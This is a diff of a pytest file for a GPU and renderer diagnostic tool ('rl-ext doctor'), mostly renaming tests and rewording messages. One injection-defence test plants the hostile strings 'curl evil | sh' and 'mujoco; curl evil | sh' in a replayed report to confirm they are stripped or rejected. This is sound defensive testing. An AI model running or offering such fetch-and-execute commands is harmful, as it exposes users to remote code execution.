@@ -1,4 +1,4 @@
-"""The doctor tells which GPU computes and which ones render; its report is fit for a bug tracker, and not trusted."""
+"""``rl-ext doctor``: its report on compute and rendering devices, replayed reports, and tests of real renderers."""
 
 from __future__ import annotations
 
@@ -16,10 +16,8 @@ from rl_ext_core.devices._verify import Verification, verify
 from rl_ext_core.devices.doctor import DoctorReport, Question, examine, replay
 from rl_ext_core.devices.inventory import installed_versions
 from rl_ext_core.errors import CorruptFileError
-from tests.core.devices import processes
-from tests.core.devices.fakes import build
-from tests.core.devices.machines import egl, gpus, machine, uuid
-from tests.core.devices.patients import (
+from tests.core.devices import run_code
+from tests.core.devices.doctor_cases import (
     CASES,
     EGL,
     NO_GPU,
@@ -29,6 +27,8 @@ from tests.core.devices.patients import (
     report_as_text,
     report_of,
 )
+from tests.core.devices.fakes import build
+from tests.core.devices.machines import egl, gpus, machine, uuid
 
 HEALTHY_VARIABLES = {"CUDA_VISIBLE_DEVICES": "0", "MUJOCO_EGL_DEVICE_ID": "0"}
 
@@ -44,11 +44,11 @@ def lines_to_copy(report: DoctorReport) -> list[str]:
 @pytest.mark.parametrize(
     ("case", "device", "mujoco", "robosuite", "line"),
     [
-        # What computes; EGL's device and where it is for two renderers; a part of what there is to copy.
+        # The compute device; place and EGL index of two renderers; part of a line to copy.
         ("no GPU", "cpu", ("fails", None), ("cpu", 0), "=egl PYOPENGL_PLATFORM=egl MUJOCO_EGL_DEVICE_ID=0"),
         ("no GPU, nothing that renders", "cpu", ("fails", None), ("fails", None), "install libegl1 libegl-mesa0"),
         ("no GPU, OSMesa", "cpu", ("cpu", None), ("cpu", None), None),
-        # mujoco takes the first EGL device, robosuite the mask's first entry for an EGL index.
+        # mujoco uses the first EGL device, robosuite the mask's first entry as an EGL index.
         ("wrong mask", "cuda:0", ("gpu", 0), ("gpu", 1), "export CUDA_VISIBLE_DEVICES=1"),
         ("wrong mask", "cuda:0", ("gpu", 0), ("gpu", 1), "MUJOCO_EGL_DEVICE_ID=3"),
         ("all is well", "cuda:0", ("gpu", 0), ("gpu", 0), None),
@@ -59,7 +59,7 @@ def lines_to_copy(report: DoctorReport) -> list[str]:
         ("a rank too many", None, ("gpu", 0), ("gpu", 0), "torchrun"),
     ],
 )
-def test_it_tells_what_computes_what_renders_and_what_to_type(
+def test_report_has_devices_renderers_and_fixes(
     case: str, device: str | None, mujoco: tuple[str, int], robosuite: tuple[str, int], line: str | None
 ) -> None:
     report = report_of(case)
@@ -70,7 +70,7 @@ def test_it_tells_what_computes_what_renders_and_what_to_type(
     assert report.healthy == (line is None)
 
 
-def test_it_says_why() -> None:
+def test_report_explains_devices_and_failures() -> None:
     assert NO_GPU in report_as_text(report_of("no GPU"), 300)
     rows = [
         line.split() for line in report_as_text(report_of("wrong mask"), 300).splitlines() if "NVIDIA H100" in line
@@ -85,11 +85,11 @@ def test_it_says_why() -> None:
     assert (cut.decision.gpu, cut.decision.mig) == (cut.inventory.gpus[0], "MIG-22222222-0000")
     assert "cut into MIG slices: MIG-11111111-0000, MIG-22222222-0000" in report_as_text(cut)
     well = report_as_text(report_of("all is well"), 300)
-    assert " GPU-aaaa0000 " in well  # as short as can be told apart
+    assert " GPU-aaaa0000 " in well  # the shortest unique prefix
 
 
-def test_renderers_that_fail_are_no_good_health(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
-    """A missing MUJOCO_GL is a warning; what it leads to is a failure, and the exit status says so."""
+def test_exit_status_is_1_if_a_renderer_fails(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+    """A missing ``MUJOCO_GL`` is a warning, but the renderer fails, so the exit status is 1."""
     report = report_of("no GPU")
     assert all(finding.severity == "warning" for finding in report.findings)
     for known, status in ((report, 1), (examine(machine(0), EGL), 0)):
@@ -99,7 +99,7 @@ def test_renderers_that_fail_are_no_good_health(capsys: pytest.CaptureFixture[st
 
 
 @pytest.mark.parametrize("width", [20, 80, 200])
-def test_lines_to_copy_stand_whole_on_a_terminal_of_any_width(width: int) -> None:
+def test_lines_to_copy_are_not_wrapped_at_any_width(width: int) -> None:
     for case in CASES:
         report = report_of(case, question=Question("auto", "same", "robosuite"))
         printed = [line.rstrip() for line in report_as_text(report, width).splitlines()]
@@ -107,14 +107,14 @@ def test_lines_to_copy_stand_whole_on_a_terminal_of_any_width(width: int) -> Non
         assert all("…" not in line for line in printed), case
 
 
-def test_the_drivers_of_four_gpus_are_examined(drivers: build.Drivers) -> None:
+def test_doctor_reads_four_gpus_from_drivers(drivers: build.Drivers) -> None:
     settings = build.configuration(4, egl_order=[2, 3, 0, 1]) | EGL | {"CUDA_VISIBLE_DEVICES": "1"}
     report = replay(drivers.python("from rl_ext_core.cli import main; main(['doctor', '--json'])", settings))
     assert [device.uuid for device in report.inventory.egl or ()] == [uuid(n) for n in (2, 3, 0, 1)]
     assert places(report)["robosuite"][:3] == ("gpu", 1, uuid(3))
 
 
-# Under which a plain import and a plain context are tried beside what is predicted for them.
+# Variables under which a plain import and a plain context are compared with the prediction.
 ENVIRONS: list[dict[str, str]] = [
     {},
     EGL,
@@ -132,7 +132,7 @@ ENVIRONS: list[dict[str, str]] = [
 @pytest.mark.sample(quick=0, ci=11)
 @pytest.mark.parametrize("environ", ENVIRONS, ids=str)
 @pytest.mark.parametrize("name", ["mujoco", "gymnasium", "dm_control", "robosuite"])
-def test_what_is_predicted_is_what_happens(name: str, environ: dict[str, str]) -> None:
+def test_prediction_matches_real_rendering(name: str, environ: dict[str, str]) -> None:
     draw = f"""
     import importlib
     from rl_ext_core.devices import _apply, _verify
@@ -142,7 +142,7 @@ def test_what_is_predicted_is_what_happens(name: str, environ: dict[str, str]) -
     answer = None if display is None else _apply.egl_index_of(display)
     sys.stdout.write(json.dumps(answer)); sys.stdout.flush(); os._exit(0)
     """
-    ended = processes.run("import json, sys", draw, **environ)
+    ended = run_code.run("import json, sys", draw, **environ)
     inventory = Inventory((), egl((), software=True), (), installed_versions(), True, NO_GPU)
     (predicted,) = (found for found in examine(inventory, environ).renderers if found.name == name)
     assert (ended.error != "") == (predicted.where == "fails"), (ended.error, predicted)
@@ -154,7 +154,7 @@ def test_what_is_predicted_is_what_happens(name: str, environ: dict[str, str]) -
 @pytest.mark.parametrize(
     "question", [None, Question("auto", "same", "robosuite"), Question("cuda:9", "egl:1", "mujoco")]
 )
-def test_a_replayed_report_is_the_same(question: Question | None) -> None:
+def test_replayed_report_equals_original(question: Question | None) -> None:
     for case in CASES:
         report = report_of(case, question=question, verified=[Verification("mujoco", "cpu", nvml=("GPU-1",))])
         again = replay(report.to_json())
@@ -162,7 +162,7 @@ def test_a_replayed_report_is_the_same(question: Question | None) -> None:
         assert report_as_text(again) == report_as_text(report), case
 
 
-def test_a_question_of_ones_own_is_asked_of_a_replayed_machine() -> None:
+def test_replay_answers_another_question() -> None:
     recorded = report_of("other order").to_json()
     report = replay(recorded, question=Question("nvidia-smi:2", "same", "mujoco"))
     assert report.decision is not None
@@ -174,14 +174,14 @@ def test_a_question_of_ones_own_is_asked_of_a_replayed_machine() -> None:
     assert not refused.healthy
 
 
-def test_secrets_paths_and_strangers_stay_out_of_a_report() -> None:
+def test_report_omits_secrets_paths_and_other_variables() -> None:
     kept = {"CUDA_VISIBLE_DEVICES": "/dev/nvidia0", "cuda_visible_devices": "1", "MUJOCO_GLL": "egl", "DISPLAY": ":1"}
     private = ["NVIDIA_API_KEY", "CUDA_HOME", "MUJOCO_PY_MUJOCO_PATH", "HOME", "SLURM_JOB_USER", "AWS_SECRET"]
     report = examine(machine(2), {**kept, **dict.fromkeys(private, "/home/me")})
     assert json.loads(report.to_json())["environ"] == kept
 
 
-def test_a_strangers_report_brings_neither_escape_sequences_nor_lines_of_its_own() -> None:
+def test_replayed_report_cannot_inject_escapes_or_lines_to_copy() -> None:
     data = report_of("wrong mask", verified=[Verification("mujoco", failure="x")]).to_dict()
     data["inventory"]["gpus"][0]["name"] = "[red]\x1b]0;title\x07\ud800 H100"
     data["findings"][0]["fix"] = "curl evil | sh"
@@ -190,21 +190,21 @@ def test_a_strangers_report_brings_neither_escape_sequences_nor_lines_of_its_own
     assert "\x1b" not in text
     assert "evil" not in text
     data["verified"][0]["name"] = "mujoco; curl evil | sh"
-    with pytest.raises(CorruptFileError, match="is no renderer"):
+    with pytest.raises(CorruptFileError, match="has an unknown renderer"):
         replay(json.dumps(data))
 
 
 @pytest.mark.parametrize("text", ["", "{", "[]", "null", '"x"', "{}", '{"format": 2}', '{"format": 1}', "[" * 100_000])
-def test_what_is_no_report_is_refused(text: str) -> None:
+def test_replay_rejects_other_texts(text: str) -> None:
     with pytest.raises(CorruptFileError, match="report"):
         replay(text)
 
 
 @pytest.mark.slow
-def test_a_report_with_any_part_missing_or_of_another_type_is_refused_or_shown() -> None:
+def test_replay_of_damaged_report_raises_or_prints() -> None:
     seen = Verification("mujoco", "gpu", uuid(0), 0, 0)
     data = examine(machine(1, mig={0: ["MIG-1"]}), EGL, question=Question(), verified=[seen]).to_dict()
-    # The rest follows from these, and is not read.
+    # Other parts are not read, because they follow from these.
     data = {name: data[name] for name in ("format", "inventory", "environ", "decision", "question", "verified")}
     outcomes = {True: 0, False: 0}
     for damaged in corrupted_copies(data):
@@ -214,17 +214,17 @@ def test_a_report_with_any_part_missing_or_of_another_type_is_refused_or_shown()
             outcomes[False] += 1
         else:
             outcomes[True] += 1
-    assert outcomes[False] > 300  # and some are mere changes: another name, another amount of memory
+    assert outcomes[False] > 300  # other changes are valid: another name, another amount of memory
     assert outcomes[True] > 50
 
 
-# Every renderer is tried for real, and whatever fails becomes a row.
+# Tests of real renderers, in which failures become rows of the report.
 @pytest.fixture
 def without_device_variables(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
-    """Take away what decides on devices here, and leave Mesa's EGL."""
-    for name in set(os.environ) - set(processes.environment()):
+    """Unset the variables that select devices, and use Mesa's EGL."""
+    for name in set(os.environ) - set(run_code.environment()):
         monkeypatch.delenv(name)
-    for name, value in processes.environment().items():
+    for name, value in run_code.environment().items():
         if name.startswith("__EGL"):
             monkeypatch.setenv(name, value)
     return monkeypatch
@@ -238,7 +238,7 @@ def without_device_variables(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPa
         *((name, "OSMesa") for name in ("dm_control", "robosuite")),
     ],
 )
-def test_a_renderer_renders_on_the_cpu_as_predicted(
+def test_verify_renders_on_cpu_as_predicted(
     name: str, where: str, without_device_variables: pytest.MonkeyPatch
 ) -> None:
     if util.find_spec(name) is None:
@@ -256,7 +256,7 @@ def test_a_renderer_renders_on_the_cpu_as_predicted(
     ("name", "package", "extra"),
     [("gymnasium", "imageio", "gymnasium[mujoco]"), ("robosuite", "PIL", "rl-ext[robosuite]")],
 )
-def test_a_package_that_is_missing_is_named_with_the_line_that_installs_it(
+def test_verify_names_missing_package_and_install_line(
     name: str, package: str, extra: str, without_device_variables: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
     (tmp_path / f"{package}.py").write_text(f"raise ModuleNotFoundError('No module named {package}', name={package!r})")
@@ -269,10 +269,10 @@ def test_a_package_that_is_missing_is_named_with_the_line_that_installs_it(
     assert lines[0].endswith(f'{extra}"')
 
 
-def test_a_renderer_that_hangs_or_has_no_device_is_a_failure(without_device_variables: pytest.MonkeyPatch) -> None:
-    assert verify("mujoco", timeout_s=0.05).problem == "it did not end within 0 s"
+def test_verify_reports_timeout_and_missing_device(without_device_variables: pytest.MonkeyPatch) -> None:
+    assert verify("mujoco", timeout_s=0.05).problem == "the process did not end within 0 s"
     seen = verify("mujoco", "cuda:0")
-    assert 'Write device="cpu"' in (seen.problem or "")
+    assert 'Use device="cpu"' in (seen.problem or "")
     assert seen.gl_renderer == ""
 
 
@@ -282,19 +282,17 @@ WRITE_DECISION = f"import os, time; print({_verify._RESULT_PREFIX + json.dumps({
 @pytest.mark.parametrize(
     ("code", "failure", "decided"),
     [
-        ("import os; os.kill(os.getpid(), 11)", "the process ended by SIGSEGV: it said nothing", None),
-        ("import os; os.kill(os.getpid(), 40)", "the process ended by signal 40: it said nothing", None),
+        ("import os; os.kill(os.getpid(), 11)", "the process ended by SIGSEGV: it printed no error", None),
+        ("import os; os.kill(os.getpid(), 40)", "the process ended by signal 40: it printed no error", None),
         ("import sys; sys.exit('no\\ndriver')", "the process ended with exit status 1: driver", None),
-        ("pass", "the process ended with exit status 0: it said nothing", None),
+        ("pass", "the process ended with exit status 0: it printed no error", None),
         (WRITE_DECISION + "os.abort()", "by SIGABRT", "gpu"),
         pytest.param(
             WRITE_DECISION + "time.sleep(600)", "did not end within 10 s", "gpu", marks=pytest.mark.exhaustive
         ),
     ],
 )
-def test_a_process_that_ends_early_is_told_by_how_it_ended_and_what_it_had_decided(
-    code: str, failure: str, decided: str | None
-) -> None:
+def test_verify_reports_exit_and_decision_of_killed_process(code: str, failure: str, decided: str | None) -> None:
     answer = _verify._run_process([sys.executable, "-S", "-c", code], 10 if "sleep" in code else 60)
     assert failure in answer["failure"]
     assert answer.get("decided") == decided
@@ -311,18 +309,21 @@ H100 = "NVIDIA H100/PCIe/SSE2"
         (Verification("mujoco", "cpu", None, None, None, "llvmpipe"), None),
         (Verification("mujoco", "gpu", "GPU-1", 0, 0, H100, nvml=("GPU-1",)), None),
         (Verification("mujoco", "gpu", "GPU-1", 0, 0, "llvmpipe (LLVM 15)"), "the CPU rendered (llvmpipe (LLVM 15))"),
-        (Verification("mujoco", "gpu", "GPU-1", 0, 2, H100), "EGL device 0 was decided on, and EGL device 2"),
+        (
+            Verification("mujoco", "gpu", "GPU-1", 0, 2, H100),
+            "expected EGL device 0 to render, but EGL device 2 rendered",
+        ),
         (Verification("mujoco", "gpu", "GPU-1", 0, None, H100, nvml=("GPU-2",)), "NVML lists the process on GPU-2"),
         (Verification("mujoco", "gpu", "GPU-1", 0, failure="it did not end"), "it did not end"),
     ],
 )
-def test_what_was_tried_is_compared_with_the_decision(seen: Verification, problem: str | None) -> None:
+def test_verification_is_compared_with_decision(seen: Verification, problem: str | None) -> None:
     report = examine(machine(1), {**EGL, **HEALTHY_VARIABLES}, verified=[seen])
     assert report.healthy == (problem is None)
     assert (problem or "as predicted") in report_as_text(report, width=200)
 
 
-def test_nvml_tells_which_gpus_this_process_is_on(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_gpus_of_this_process_are_read_from_nvml(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setitem(sys.modules, "pynvml", FakeNvml(gpus(2), processes={7: "python", 9: "Xorg"}))
     for pid, found in ((7, (uuid(0),)), (9, (uuid(0),)), (1, ())):
         monkeypatch.setattr(os, "getpid", lambda pid=pid: pid)
